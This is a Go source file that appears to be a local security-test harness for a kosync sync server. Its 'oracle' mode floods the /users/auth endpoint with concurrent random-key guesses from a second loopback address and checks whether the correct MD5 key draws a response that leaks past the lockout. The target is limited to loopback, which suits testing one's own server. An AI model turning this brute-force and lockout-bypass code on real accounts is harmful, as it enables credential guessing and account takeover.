package main

import (
	"context"
	"crypto/md5"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"slices"
	"sort"
	"strings"
	"sync"
	"time"
)

// oracle signs in as the owner's device would, then guesses at the account
// from another address, the real key among the guesses, and reports whether
// the real key got an answer no wrong key got: if it did, the listener is
// an oracle, and the guesses a second it answers are what the slow hash and
// the lock were meant to deny.
func oracle(target, user, password, user2, password2 string, workers int, duration time.Duration) error {
	if _, err := checkLoopback(target); err != nil {
		return err
	}
	if password == "" || workers < 1 || duration <= 0 {
		return errors.New("-mode oracle needs -password, a positive -workers and -duration")
	}
	authURL := target + "/users/auth"
	owner := clientFrom(net.IPv4(127, 0, 0, 1), 1)
	guesser := clientFrom(net.IPv4(127, 0, 0, 2), workers)
	realKey := md5hex(password)

	a, err := signIn(context.Background(), owner, authURL, user, realKey)
	if err != nil {
		return err
	}
	fmt.Printf("the owner's device signs in as %q from 127.0.0.1: %s\n", user, a)
	if a.status != http.StatusOK {
		return fmt.Errorf("the owner's sign-in was refused: give the account's real -password")
	}

	wrong, right, el := guess(guesser, authURL, user, realKey, workers, duration)
	n := wrong.n + right.n
	fmt.Printf("guessed at %q from 127.0.0.2 for %v, %d workers on keep-alive connections\n", user, el.Round(time.Millisecond), workers)
	fmt.Printf("guesses answered: %d (%.0f/s), errors %d\n", n, float64(n)/el.Seconds(), wrong.errs)
	fmt.Printf("wrong keys (%d):    %s\n", wrong.n, wrong)
	fmt.Printf("the real key (%d): %s\n", right.n, right)
	var told []string
	for label := range right.answers {
		if _, ok := wrong.answers[label]; !ok {
			told = append(told, label)
		}
	}
	if len(told) > 0 {
		fmt.Printf("the real key is told apart: it got %s, which no wrong key got\n", strings.Join(told, ", "))
	} else {
		fmt.Println("the real key is not told apart: every answer it got, wrong keys got too")
	}

	if user2 != "" {
		a, err := signIn(context.Background(), guesser, authURL, user2, md5hex(password2))
		if err != nil {
			return err
		}
		fmt.Printf("%q with its real key from the guessing address: %s\n", user2, a)
	}
	a, err = signIn(context.Background(), owner, authURL, user, realKey)
	if err != nil {
		return err
	}
	fmt.Printf("the owner's device from 127.0.0.1 after the attack: %s\n", a)
	return nil
}

// guess signs in as user from guesser's address for duration, on workers
// keep-alive connections, with a random key each time but every 50th,
// which is realKey; it returns the answers each kind of key got and how
// long it guessed.
func guess(guesser *http.Client, authURL, user, realKey string, workers int, duration time.Duration) (wrong, right *tally, el time.Duration) {
	ctx, cancel := context.WithTimeout(context.Background(), duration)
	defer cancel()
	var mu sync.Mutex
	wrong, right = newTally(), newTally()
	sent := 0
	start := time.Now()
	var wg sync.WaitGroup
	for range workers {
		wg.Go(func() {
			for ctx.Err() == nil {
				mu.Lock()
				isReal := sent%50 == 49
				sent++
				mu.Unlock()
				key := randomKey()
				if isReal {
					key = realKey
				}
				t0 := time.Now()
				a, err := signIn(ctx, guesser, authURL, user, key)
				took := time.Since(t0)
				if err != nil {
					if ctx.Err() == nil {
						mu.Lock()
						wrong.errs++
						mu.Unlock()
					}
					continue
				}
				mu.Lock()
				if isReal {
					right.add(a, took)
				} else {
					wrong.add(a, took)
				}
				mu.Unlock()
			}
		})
	}
	wg.Wait()
	return wrong, right, time.Since(start)
}

// clientFrom returns a client whose connections come from ip, keeping up
// to idle of them open between requests.
func clientFrom(ip net.IP, idle int) *http.Client {
	d := &net.Dialer{Timeout: 5 * time.Second, LocalAddr: &net.TCPAddr{IP: ip}}
	return &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{DialContext: d.DialContext, MaxIdleConnsPerHost: idle}}
}

func md5hex(s string) string {
	sum := md5.Sum([]byte(s))
	return hex.EncodeToString(sum[:])
}

// answer is what a sign-in got: its status, the kosync error code and
// message, and Retry-After.
type answer struct {
	status     int
	code       int
	message    string
	retryAfter string
}

// label is what tells answers apart, leaving out what changes with time
// (Retry-After, and the wait a message may name).
func (a answer) label() string { return fmt.Sprintf("%d/%d", a.status, a.code) }

func (a answer) String() string {
	s := fmt.Sprint(a.status)
	if a.message != "" {
		s += fmt.Sprintf(" %q", a.message)
	}
	if a.retryAfter != "" {
		s += " Retry-After: " + a.retryAfter
	}
	return s
}

func signIn(ctx context.Context, hc *http.Client, authURL, user, key string) (answer, error) {
	req, err := http.NewRequestWithContext(ctx, "GET", authURL, nil)
	if err != nil {
		return answer{}, err
	}
	req.Header["x-auth-user"] = []string{user}
	req.Header["x-auth-key"] = []string{key}
	resp, err := hc.Do(req)
	if err != nil {
		return answer{}, err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(io.LimitReader(resp.Body, 4096))
	if err != nil {
		return answer{}, err
	}
	var e struct {
		Code    int    `json:"code"`
		Message string `json:"message"`
	}
	_ = json.Unmarshal(body, &e) // a 200 carries no code
	return answer{status: resp.StatusCode, code: e.Code, message: e.Message, retryAfter: resp.Header.Get("Retry-After")}, nil
}

// tally counts the answers of one kind of guess.
type tally struct {
	n, errs  int
	answers  map[string]int
	messages map[string]string // label -> one message seen
	lat      []time.Duration
}

func newTally() *tally { return &tally{answers: map[string]int{}, messages: map[string]string{}} }

func (t *tally) add(a answer, took time.Duration) {
	t.n++
	t.answers[a.label()]++
	if _, ok := t.messages[a.label()]; !ok {
		t.messages[a.label()] = a.message
	}
	t.lat = append(t.lat, took)
}

func (t *tally) String() string {
	if t.n == 0 {
		return "none sent"
	}
	labels := slices.Collect(maps.Keys(t.answers))
	sort.Strings(labels)
	var parts []string
	for _, l := range labels {
		parts = append(parts, fmt.Sprintf("%s x%d %q", l, t.answers[l], t.messages[l]))
	}
	slices.Sort(t.lat)
	return fmt.Sprintf("%s; median %v", strings.Join(parts, ", "), t.lat[len(t.lat)/2])
}
